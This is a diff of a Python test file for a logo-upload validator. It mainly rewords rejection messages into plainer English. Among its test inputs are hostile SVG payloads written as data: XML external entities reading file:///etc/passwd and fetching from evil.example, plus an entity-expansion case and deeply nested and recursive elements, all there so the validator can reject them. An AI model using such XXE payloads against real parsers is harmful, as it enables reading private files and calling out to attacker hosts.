@@ -135,20 +135,23 @@ def test_sheets_posters_and_the_strategy_have_the_logo_with_the_councils_name_fo
     ("name", "message"),
     [
         ("crest-2.png", "There is no file “crest-2.png” in content/."),
-        ("../logo.png", "The name of the file is needed alone, and the file stands in content/ itself."),
-        ("content/logo.png", "The name of the file is needed alone, and the file stands in content/ itself."),
+        ("../logo.png", "Write only the file name. The file goes directly in content/."),
+        ("content/logo.png", "Write only the file name. The file goes directly in content/."),
         ("LOGO.png", "There is no file “LOGO.png” in content/. The closest is “logo.png”."),
         ("logo.gif", "A logo is an SVG, PNG or JPEG."),
-        ("folder.png", "A folder stands where a file should be."),
+        ("folder.png", "There is a folder where a file should be."),
         ("link.png", "This is a link to a file outside the folder."),
         ("dead.png", "This is a link to a file that is not there."),
         ("empty.png", "The file is empty."),
-        ("large.png", f"The file has more than {MOST_BYTES // 1000} KB, and every page shows it."),
+        ("large.png", f"The file is larger than {MOST_BYTES // 1000} KB, and every page shows it."),
         ("words.png", "The file is no PNG, whatever its name says."),
         ("cut.png", "The picture cannot be drawn: the file is damaged or cut off."),
         ("wide.png", "The picture has 2,000 by 600 pixels, and 1,000,000 are the most."),
-        ("strip.png", "The picture is a strip: the top of a page on a phone has no room for it."),
-        ("words.svg", "It is no SVG that can be read, line 1."),
+        (
+            "strip.png",
+            "The picture is too long and narrow: there is no room for it at the top of a page on a phone.",
+        ),
+        ("words.svg", "It cannot be read as an SVG, line 1."),
     ],
 )
 def test_what_cannot_be_the_logo_is_one_message_at_its_line(
@@ -253,31 +256,31 @@ def test_a_drawing_from_illustrator_keeps_its_colours_and_its_cuts() -> None:
     [
         (
             b'<!DOCTYPE svg [<!ENTITY a "b">]>' + svg(),
-            "It defines entities, which can make a small file a huge one.",
+            "It defines entities, which can turn a small file into a huge one.",
         ),
         (
             b'<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>' + svg(),
-            "It defines entities, which can make a small file a huge one.",
+            "It defines entities, which can turn a small file into a huge one.",
         ),
         (
             b'<!DOCTYPE svg [<!ENTITY % a SYSTEM "https://evil.example/">]>' + svg(),
-            "It defines entities, which can make a small file a huge one.",
+            "It defines entities, which can turn a small file into a huge one.",
         ),
-        (svg("<text>Council</text>"), "It has letters that each computer draws in its own type."),
+        (svg("<text>Council</text>"), "It has letters that each computer draws in its own font."),
         (svg('<image href="data:image/png;base64,AAAA"/>'), "It has another picture."),
         (svg("<script/>"), "Nothing is drawn in it."),
-        (svg(more=""), "It does not say how large it is: neither viewBox nor width and height."),
+        (svg(more=""), "It does not say how large it is: it has neither viewBox nor width and height."),
         (
             svg(more='width="100%" height="100%"'),
-            "It does not say how large it is: neither viewBox nor width and height.",
+            "It does not say how large it is: it has neither viewBox nor width and height.",
         ),
         (
             svg(more='viewBox="0 0 0 0"'),
-            "It does not say how large it is: neither viewBox nor width and height.",
+            "It does not say how large it is: it has neither viewBox nor width and height.",
         ),
         (b"<html><path d='M0 0'/></html>", "Nothing is drawn in it."),
         (b"<g><path d='M0 0'/></g>", "It is another kind of file."),
-        (svg("<g>" * 5000 + "</g>" * 5000), "Its parts stand within each other more than 60 deep."),
+        (svg("<g>" * 5000 + "</g>" * 5000), "Its parts are nested more than 60 deep."),
         (svg('<g id="a"><path d="M0 0"/><use href="#a"/></g>'), "It draws its parts over and over."),
         (
             svg(
@@ -286,8 +289,8 @@ def test_a_drawing_from_illustrator_keeps_its_colours_and_its_cuts() -> None:
             ),
             "It draws its parts over and over.",
         ),
-        (svg("<!-- £ -->").replace("£".encode(), b"\xa3"), "It is no SVG that can be read, line 1."),
-        (b'<?xml version="1.0" encoding="nonsense"?>' + svg(), "It is no SVG that can be read."),
+        (svg("<!-- £ -->").replace("£".encode(), b"\xa3"), "It cannot be read as an SVG, line 1."),
+        (b'<?xml version="1.0" encoding="nonsense"?>' + svg(), "It cannot be read as an SVG."),
     ],
 )
 def test_a_drawing_that_cannot_be_made_safe_and_look_the_same_is_told_why(
